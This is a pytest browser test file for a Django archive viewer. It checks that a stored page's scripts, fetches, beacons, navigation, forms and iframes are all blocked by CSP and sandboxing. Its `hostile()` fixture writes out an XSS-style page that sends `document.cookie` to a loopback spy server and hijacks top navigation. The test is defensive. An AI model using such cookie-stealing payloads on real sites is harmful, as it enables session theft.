"""The archive viewer's isolation in a real browser (issue 12, item 3): an archived page that
tries script (inline, external, in handlers and ``javascript:`` links), fetch and XHR to a
loopback server it could reach, the desk's cookies, top navigation, a meta refresh, a form and
an iframe achieves none of them; nothing but the viewer and the raw copy is requested."""

import threading
import time
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import pytest
from django.utils import timezone

from annotations.linkcheck import archive
from annotations.linkcheck.fetch import Exchange, FetchResult
from annotations.models import LinkCheck, LinkOutcome, Snapshot, SourceLink

pytestmark = [pytest.mark.browser, pytest.mark.django_db(transaction=True)]


def archive_page(url: str, body: bytes, content_type: str = "text/html; charset=utf-8") -> Snapshot:
    """Store ``body`` as a check of ``url`` would (WARC file and row), without fetching."""
    link, _ = SourceLink.objects.get_or_create(url=url)
    now = timezone.now()
    SourceLink.objects.filter(pk=link.pk).update(
        outcome=LinkOutcome.OK, http_status=200, last_checked_at=now
    )
    check = LinkCheck.objects.create(
        source_link=link, checked_at=now, outcome=LinkOutcome.OK, http_status=200
    )
    exchange = Exchange(
        url=url,
        request_target="/",
        request_headers=[("Host", "example.org")],
        http_version="HTTP/1.1",
        status=200,
        reason="OK",
        response_headers=[("Content-Type", content_type)],
        body=body,
        truncated=False,
    )
    result = FetchResult(url=url, outcome=LinkOutcome.OK, content_type=content_type)
    result.exchange = exchange
    policy = archive.ArchivePolicy()
    captured = archive.capture(link.pk, result, archive.stored_bodies([link.pk])[link.pk], policy)
    assert captured is not None and not captured.error
    archive.snapshots_record([(check, captured)], policy)
    return Snapshot.objects.filter(source_link=link).latest()


class Spy(ThreadingHTTPServer):
    """A loopback server the archived page would reach; it records every request."""

    def __init__(self) -> None:
        self.seen: list[str] = []
        spy = self

        class Handler(BaseHTTPRequestHandler):
            def _answer(self) -> None:
                spy.seen.append(f"{self.command} {self.path}")
                body = b"document.title = 'external script ran';"
                self.send_response(200)
                self.send_header("Access-Control-Allow-Origin", "*")
                self.send_header("Content-Length", str(len(body)))
                self.end_headers()
                self.wfile.write(body)

            do_GET = do_POST = _answer

            def log_message(self, *args: object) -> None:
                pass

        super().__init__(("127.0.0.1", 0), Handler)

    @property
    def base(self) -> str:
        return f"http://127.0.0.1:{self.server_address[1]}"


@pytest.fixture
def spy():
    server = Spy()
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield server
    server.shutdown()
    server.server_close()


def hostile(base: str) -> bytes:
    return f"""<!doctype html><html><head><title>Archived article</title>
<meta http-equiv="refresh" content="0; url={base}/refresh">
<link rel="stylesheet" href="{base}/style.css">
<script>
  document.title = "inline script ran";
  fetch("{base}/fetch?c=" + encodeURIComponent(document.cookie));
  var x = new XMLHttpRequest(); x.open("GET", "{base}/xhr"); x.send();
  navigator.sendBeacon("{base}/beacon", document.cookie);
  top.location = "{base}/top";
</script>
<script src="{base}/external.js"></script>
<style>.note {{ color: rgb(0, 128, 0); }}</style>
</head><body onload="fetch('{base}/onload')">
<h1 id="headline">The minister's statement</h1>
<p class="note">Inline styles still apply.</p>
<img src="{base}/pixel.png" onerror="fetch('{base}/onerror')" alt="pixel">
<img src="data:image/gif;base64,R0lGODlhAQABAAAAACw=" alt="data image">
<iframe src="{base}/frame"></iframe>
<form id="form" action="{base}/form" method="post"><input name="q" value="x">
<button id="send" type="submit">Send</button></form>
<a id="js" href="javascript:fetch('{base}/javascript');top.location='{base}/js-top'">js link</a>
<a id="away" href="{base}/away" target="_top">away</a>
</body></html>""".encode()


def _refusals_only(errors: list[str]) -> bool:
    words = ("Content Security Policy", "sandboxed", "Blocked", "blocked", "Refused", "Unsafe")
    return all(any(w in e for w in words) for e in errors)


def _only_refusals_were_logged(b) -> bool:
    """The console's refusals are the point here: leave the page (so none arrives late),
    check that every error logged is one, and take them off the fixture's error list."""
    b.page.goto("about:blank")
    logged, b.errors[:] = list(b.errors), []
    assert logged and _refusals_only(logged), logged
    return True


def test_an_archived_page_is_shown_inert(open_browser, live_server, spy, analyst):
    snapshot = archive_page("https://example.org/statement", hostile(spy.base))
    b = open_browser()
    b.login("olena", "pw-olena")
    # Chromium reports the loads the policy refused as requests that failed before leaving.
    loaded: list[str] = []
    refused: list[tuple[str, str]] = []
    b.page.on("requestfinished", lambda r: loaded.append(r.url))
    b.page.on("requestfailed", lambda r: refused.append((r.url, r.failure or "")))
    viewer = f"{live_server.url}/archive/{snapshot.pk}/"
    b.page.goto(viewer)
    frame = b.page.frame_locator("iframe.archive-frame")
    frame.locator("#headline").wait_for()
    assert frame.locator(".note").evaluate("e => getComputedStyle(e).color") == "rgb(0, 128, 0)"
    # A click on the form's button, the javascript: link and a _top link: none may act.
    frame.locator("#send").click()
    frame.locator("#js").click()
    frame.locator("#away").click(no_wait_after=True)
    time.sleep(1.5)  # the meta refresh's 0 s, the fetches and beacons: all had their chance
    assert b.page.url == viewer  # the top page did not navigate
    inner = next(f for f in b.page.frames if f.url.endswith(f"/archive/{snapshot.pk}/raw"))
    assert inner.title() == "Archived article"  # no script set it
    assert spy.seen == []  # nothing reached the loopback server
    static = [u for u in loaded if "/static/" in u]
    assert [u for u in loaded if u not in static] == [viewer, f"{viewer}raw"]
    assert static and all(u.startswith(live_server.url) for u in static)
    assert refused and all(why == "csp" for _, why in refused), refused
    assert "Original URL" in b.page.locator(".archive-banner").inner_text()
    assert _only_refusals_were_logged(b)


def test_the_raw_copy_opened_on_its_own_is_inert_too(open_browser, live_server, spy, analyst):
    snapshot = archive_page("https://example.org/statement", hostile(spy.base))
    b = open_browser()
    b.login("olena", "pw-olena")
    raw = f"{live_server.url}/archive/{snapshot.pk}/raw"
    b.page.goto(raw)
    b.page.locator("#headline").wait_for()
    # The sandbox gives the document an opaque origin: the desk's cookies are out of reach.
    time.sleep(1.5)
    assert b.page.url == raw and b.page.title() == "Archived article"
    assert spy.seen == []
    assert _only_refusals_were_logged(b)
